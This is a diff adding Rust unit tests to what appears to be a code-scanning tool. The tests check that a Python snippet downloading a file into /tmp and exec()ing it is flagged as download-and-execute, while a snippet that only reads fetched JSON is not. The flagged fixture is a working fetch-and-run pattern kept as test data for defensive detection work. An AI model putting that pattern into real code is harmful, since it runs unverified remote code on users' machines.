@@ -505,3 +505,15 @@ fn an_honest_makefile_stays_clean() {
     let mk = "GET = wget -qO-\nSRC = https://files.example.net/data.csv\ndata:\n\t$(GET) $(SRC) | sort > data.csv\ntest:\n\tsh ./run-tests.sh\n";
     not_high("Makefile", mk);
 }
+
+#[test]
+fn a_path_written_with_fetched_bytes_and_run_is_download_exec() {
+    let py = "import pathlib, urllib.request\ndest = pathlib.Path('/tmp') / 'plugin.py'\nwith urllib.request.urlopen('https://files.example.net/p') as r:\n    dest.write_bytes(r.read())\nexec(compile(dest.read_text(), 'p', 'exec'))\n";
+    high("tools/load.py", py, "flow-download-exec");
+}
+
+#[test]
+fn a_path_written_with_fetched_data_and_only_read_stays_clean() {
+    let py = "import pathlib, urllib.request, json\ndest = pathlib.Path('/tmp') / 'rates.json'\nwith urllib.request.urlopen('https://files.example.net/r') as r:\n    dest.write_bytes(r.read())\nprint(json.loads(dest.read_text()))\n";
+    not_high("tools/load.py", py);
+}
